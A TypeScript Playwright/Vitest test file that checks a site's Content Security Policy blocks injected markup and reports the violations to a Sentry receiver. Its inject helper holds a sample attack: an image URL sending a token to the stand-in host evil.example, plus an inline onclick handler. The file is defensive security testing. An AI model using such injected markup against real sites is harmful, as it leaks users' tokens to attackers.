import type { Page } from "playwright-core";
import { beforeEach, describe, expect, test } from "vitest";
import { VIOLATIONS_PATH } from "#workers/monitoring/constants.ts";
import { startChromium } from "#tests/support/clients/chromium.ts";
import { startSecureSite } from "#tests/support/site/secure-site.ts";
import { type Received, useReceiver } from "#tests/support/monitoring/sentry-receiver.ts";
import { startSite } from "#tests/support/site/site.ts";
import { useRunning } from "#tests/support/use-running.ts";
import { itemsOf } from "#tests/browser/support/sentry-outbox.ts";
import { open, withBrowser } from "#tests/browser/support/steps.ts";

/** What the policy blocks in a real browser is a report at the receiver. */
const receiver = useReceiver();
// Reports are sent after a minute by default; the certificate is self-signed.
const chromium = useRunning(() => startChromium(["--short-reporting-delay", "--ignore-certificate-errors"]));
beforeEach(() => receiver.reset());

/** Like markup injected by an attacker: a picture with stolen data in its address, and a handler. */
async function inject(page: Page): Promise<void> {
  await page.evaluate(() => {
    const handler = `document.title = 'taken over'`;
    const markup = `<img src="https://evil.example/stolen.png?token=stolen-secret"><b onclick="${handler}">Click</b>`;
    document.body.insertAdjacentHTML("beforeend", markup);
    [...document.querySelectorAll("b")].at(-1)?.click();
  });
  expect(await page.title()).not.toBe("taken over");
}

async function nextReport(): Promise<[Received, unknown]> {
  for (;;) {
    const received = await receiver.nextEnvelope();
    const report = itemsOf(received).find(({ type }) => type === "raw_security");
    if (report) return [received, report.payload["csp-report"]];
  }
}

async function expectBoth(origin: string, path: string): Promise<void> {
  const found = [await nextReport(), await nextReport()];
  const document = `${origin}${path}`;
  const wanted = [
    { "effective-directive": "img-src", "blocked-uri": "https://evil.example", "document-uri": document },
    { "effective-directive": "script-src-attr", "blocked-uri": "inline", "document-uri": document },
  ];
  expect(found.map(([, report]) => report)).toEqual(
    expect.arrayContaining(wanted.map((fields) => expect.objectContaining(fields))),
  );
  for (const [{ text }] of found) expect(text).not.toMatch(/secret|nonce|taken over/);
}

describe("a resource that the policy blocks is reported", () => {
  test("through the Reporting API, over https", async () => {
    const site = await startSecureSite({ SENTRY_DSN: receiver.dsn, SENTRY_TRACES_SAMPLE_RATE: "0" });
    await withBrowser(chromium, { javaScript: true }, async ({ page, context }) => {
      // Reports are sent if a page may run in the background, which users' browsers allow and this one asks about.
      await context.grantPermissions(["background-sync"]);
      const request = page.goto(`${site.origin}/login?redirectTo=secret`);
      expect((await (await request)?.allHeaders())?.["reporting-endpoints"]).toBe(`policy="${VIOLATIONS_PATH}"`);
      await inject(page);
      await expectBoth(site.origin, "/login");
    }).finally(site.close);
  });

  test("by a browser that supports report-uri only", async () => {
    const vars = { SENTRY_DSN: receiver.dsn, SENTRY_TRACES_SAMPLE_RATE: "0" };
    const site = await startSite({ stripe: false, vars });
    await withBrowser(chromium, {}, async (browsing) => {
      // Such a browser ignores the other directive.
      await browsing.page.route("**/login?*", async (route) => {
        const answer = await route.fetch();
        const headers = answer.headers();
        const policy = headers["content-security-policy"]?.replace("; report-to policy", "") ?? "";
        await route.fulfill({ response: answer, headers: { ...headers, "content-security-policy": policy } });
      });
      const page = await open(browsing, `${site.origin}/login?redirectTo=secret`);
      const answered = page.waitForResponse(`**${VIOLATIONS_PATH}`);
      await inject(page);
      expect((await answered).status()).toBe(204);
      await expectBoth(site.origin, "/login");
      // The next visit reports the same, which is known.
      const reports = (): number => receiver.received.filter(({ text }) => text.includes("raw_security")).length;
      const known = reports();
      await open(browsing, `${site.origin}/login?redirectTo=other`);
      const answeredAgain = page.waitForResponse(`**${VIOLATIONS_PATH}`);
      await inject(page);
      await answeredAgain;
      expect(reports()).toBe(known);
    }).finally(site.close);
  });
});
